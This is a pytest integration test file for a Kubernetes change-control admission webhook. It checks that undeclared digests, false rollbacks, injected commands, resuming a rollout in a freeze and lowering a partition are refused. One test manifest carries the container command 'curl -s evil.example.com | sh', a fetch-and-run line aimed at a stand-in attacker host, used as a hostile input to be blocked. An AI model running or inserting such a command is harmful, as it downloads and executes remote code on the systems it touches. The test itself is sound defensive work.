"""A change covers exactly what it declares, tried as the product team on a real API server.

Issue 10, "what must hold" 2: a digest the change did not declare, another digest
passed off as a rollback or one too old, a command slipped in with an image, a
template admitted while paused and resumed in a freeze, a lowered partition;
and beside each attack, the legitimate path that must still work.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from changegate.core.change.workloads import pod_template, pod_template_hash
from tests.integration.conftest import Governed
from tests.integration.test_cli import Cli, succeeded
from tests.integration.test_lifecycle import approved_change, wait_phase
from tests.support.localcluster import LocalCluster
from tests.support.polling import wait_for
from tests.support.scenario import IMAGE_V1, IMAGE_V2, IMAGE_V3, decide, get, set_image

pytestmark = pytest.mark.integration

EVIL = "sha256:" + "e" * 64


def kubectl(cluster: LocalCluster, ns: str, *args: str, **kw: Any) -> Any:
    return cluster.kubectl("-n", ns, *args, user="product-dev-1", check=False, **kw)


def policy_patch(cluster: LocalCluster, ns: str, policy: dict[str, Any]) -> None:
    patch = json.dumps({"spec": {"changePolicy": policy}})
    cluster.kubectl(
        "-n",
        ns,
        "patch",
        "serviceoncall",
        "payments-api",
        "--type=merge",
        "-p",
        patch,
        user="platform-admin-1",
    )


def test_an_undeclared_digest_under_a_declared_tag_is_refused(
    cluster: LocalCluster, governed_running: Governed
) -> None:
    ns = governed_running.namespace
    approved_change(cluster, ns, "api-1-1-0", IMAGE_V2)

    pinned = set_image(cluster, ns, f"{IMAGE_V2}@{EVIL}")
    assert pinned.returncode != 0
    assert "image mismatch" in pinned.stderr

    assert set_image(cluster, ns, IMAGE_V2).returncode == 0


def test_a_rollback_goes_only_to_the_exact_reference_and_within_the_horizon(
    cluster: LocalCluster, governed_running: Governed
) -> None:
    ns = governed_running.namespace
    approved_change(cluster, ns, "api-1-1-0", IMAGE_V2)
    assert set_image(cluster, ns, IMAGE_V2).returncode == 0
    wait_phase(cluster, ns, "api-1-1-0", "Completed")
    approved_change(cluster, ns, "api-1-2-0", IMAGE_V3)
    assert set_image(cluster, ns, IMAGE_V3).returncode == 0
    wait_phase(cluster, ns, "api-1-2-0", "Completed")

    other_digest = set_image(cluster, ns, f"{IMAGE_V2}@{EVIL}")
    assert other_digest.returncode != 0, "another digest of a deployed tag is no rollback"
    undo = ("rollout", "undo", "deployment/payments-api", "--dry-run=server")
    assert kubectl(cluster, ns, *undo).returncode == 0, "the exact reference rolls back"

    policy_patch(cluster, ns, {"rollbackHorizonSeconds": 1})
    refused = wait_for(
        lambda: (r := kubectl(cluster, ns, *undo)).returncode != 0 and r,
        message="the rollback horizon to pass",
    )
    assert "no approved ChangeRequest" in refused.stderr


def manifest(ns: str, command: list[str]) -> dict[str, Any]:
    """The Deployment a pipeline applies: a new image and a new command."""
    container = {
        "name": "api",
        "image": IMAGE_V2,
        "command": command,
        "ports": [{"containerPort": 8080}],
    }
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "payments-api", "namespace": ns},
        "spec": {
            "replicas": 2,
            "selector": {"matchLabels": {"app": "payments-api"}},
            "template": {
                "metadata": {"labels": {"app": "payments-api"}},
                "spec": {"containers": [container]},
            },
        },
    }


def test_a_command_slipped_in_with_an_image_is_refused_and_a_declared_template_passes(
    cluster: LocalCluster, governed_running: Governed, tmp_path: Path
) -> None:
    ns = governed_running.namespace
    approved_change(cluster, ns, "api-1-1-0", IMAGE_V2)
    evil = manifest(ns, ["sh", "-c", "curl -s evil.example.com | sh"])

    slipped = kubectl(cluster, ns, "apply", "-f", "-", input=json.dumps(evil))
    assert slipped.returncode != 0
    assert "declares images only" in slipped.stderr
    assert "spec.containers[api].command" in slipped.stderr
    assert "--from-file" in slipped.stderr

    path = tmp_path / "app.yaml"
    path.write_text(yaml.safe_dump(manifest(ns, ["serve", "--port", "8080"])))
    cli = Cli(cluster, tmp_path)
    name = succeeded(
        cli.run(
            "product-dev-1",
            "request",
            "--service",
            "payments-api",
            "--from-file",
            str(path),
            "--name",
            "api-template",
        )
    ).strip()
    target = get(cluster, ns, f"changerequest/{name}")["spec"]["targets"][0]
    assert target["podTemplateHash"].startswith("sha256:")
    assert decide(cluster, ns, name, "change-manager-1").returncode == 0

    applied = wait_for(
        lambda: (r := kubectl(cluster, ns, "apply", "-f", str(path))).returncode == 0 and r,
        message="the declared template to be admitted",
    )
    assert "configured" in applied.stdout
    annotations = get(cluster, ns, "deployment/payments-api")["metadata"]["annotations"]
    assert annotations["changegate.io/change-request"] == name


def test_a_template_admitted_while_paused_is_not_resumed_in_a_freeze(
    cluster: LocalCluster, governed_running: Governed
) -> None:
    ns = governed_running.namespace
    assert kubectl(cluster, ns, "rollout", "pause", "deployment/payments-api").returncode == 0
    approved_change(cluster, ns, "api-1-1-0", IMAGE_V2)
    assert set_image(cluster, ns, IMAGE_V2).returncode == 0
    freeze = {
        "name": "peak",
        "startTime": "2020-01-01T00:00:00Z",
        "endTime": "2099-01-01T00:00:00Z",
        "reason": "trading peak",
    }
    policy_patch(cluster, ns, {"freezes": [freeze]})

    resume = ("patch", "deployment/payments-api", "-p", json.dumps({"spec": {"paused": False}}))
    refused = wait_for(
        lambda: (r := kubectl(cluster, ns, *resume, "--dry-run=server")).returncode != 0 and r,
        message="the freeze to reach the webhook",
    )
    assert "freeze peak" in refused.stderr
    assert get(cluster, ns, "deployment/payments-api")["spec"]["paused"] is True

    policy_patch(cluster, ns, {"freezes": []})
    wait_for(
        lambda: kubectl(cluster, ns, *resume).returncode == 0,
        message="the resume to pass once the freeze is gone",
    )
    assert not get(cluster, ns, "deployment/payments-api")["spec"].get("paused")


def statefulset(ns: str, partition: int) -> str:
    return json.dumps(
        {
            "apiVersion": "apps/v1",
            "kind": "StatefulSet",
            "metadata": {"name": "ledger", "namespace": ns},
            "spec": {
                "replicas": 3,
                "serviceName": "ledger",
                "selector": {"matchLabels": {"app": "ledger"}},
                "updateStrategy": {
                    "type": "RollingUpdate",
                    "rollingUpdate": {"partition": partition},
                },
                "template": {
                    "metadata": {"labels": {"app": "ledger"}},
                    "spec": {"containers": [{"name": "api", "image": IMAGE_V1}]},
                },
            },
        }
    )


def ledger_change(ns: str, name: str) -> str:
    """A change of the ledger declaring its pod template: it covers creating it too."""
    template = pod_template(json.loads(statefulset(ns, 0)))
    target = {
        "kind": "StatefulSet",
        "name": "ledger",
        "images": [{"container": "api", "image": IMAGE_V1}],
        "podTemplateHash": pod_template_hash(template),
    }
    return json.dumps(
        {
            "apiVersion": "changegate.io/v1alpha1",
            "kind": "ChangeRequest",
            "metadata": {"name": name, "namespace": ns},
            "spec": {
                "service": "payments-api",
                "type": "Normal",
                "summary": "ledger",
                "targets": [target],
            },
        }
    )


def test_lowering_a_partition_is_a_rollout(
    cluster: LocalCluster, governed_running: Governed
) -> None:
    ns = governed_running.namespace
    for name in ("ledger-1", "ledger-2"):
        kubectl(cluster, ns, "apply", "-f", "-", input=ledger_change(ns, name))
        assert decide(cluster, ns, name, "change-manager-1").returncode == 0
    wait_for(
        lambda: kubectl(cluster, ns, "apply", "-f", "-", input=statefulset(ns, 3)).returncode == 0,
        message="the StatefulSet to be created under ledger-1",
    )
    for name in ("ledger-1", "ledger-2"):
        patch = json.dumps({"spec": {"cancel": True}})
        kubectl(cluster, ns, "patch", "changerequest", name, "--type=merge", "-p", patch)
    lower = ("apply", "-f", "-", "--dry-run=server")
    refused = wait_for(
        lambda: (r := kubectl(cluster, ns, *lower, input=statefulset(ns, 0))).returncode != 0 and r,
        message="the cancellations to reach the webhook",
    )
    assert "StatefulSet/ledger" in refused.stderr
    assert kubectl(cluster, ns, "apply", "-f", "-", input=statefulset(ns, 5)).returncode == 0

    kubectl(cluster, ns, "apply", "-f", "-", input=ledger_change(ns, "ledger-3"))
    assert decide(cluster, ns, "ledger-3", "change-manager-1").returncode == 0
    wait_for(
        lambda: kubectl(cluster, ns, "apply", "-f", "-", input=statefulset(ns, 0)).returncode == 0,
        message="the partition to be lowered under ledger-3",
    )
    # Gap 2: the same revision, now on every pod: a rollout with evidence of its own.
    by_change = wait_for(
        lambda: (
            found
            if {"ledger-1", "ledger-3"} <= (found := ledger_records(cluster, ns)).keys()
            else None
        ),
        message="a DeploymentRecord for the creation and one for the lowered partition",
    )
    first, lowered = by_change["ledger-1"], by_change["ledger-3"]
    assert first["metadata"]["name"].endswith(".p3")
    assert lowered["metadata"]["name"] == first["metadata"]["name"].removesuffix(".p3")
    assert first["spec"]["revision"] == lowered["spec"]["revision"]
    assert lowered["spec"]["deployer"] == "product-dev-1"


def ledger_records(cluster: LocalCluster, ns: str) -> dict[str, dict[str, Any]]:
    """The ledger's DeploymentRecords, by the change each was admitted under."""
    listed = json.loads(cluster.kubectl("get", "deploymentrecords", "-o", "json").stdout)
    return {
        r["spec"]["changeRequest"]["name"]: r
        for r in listed["items"]
        if r["spec"]["namespace"] == ns
        and r["spec"]["workload"] == {"kind": "StatefulSet", "name": "ledger"}
        and r["spec"].get("changeRequest")
    }
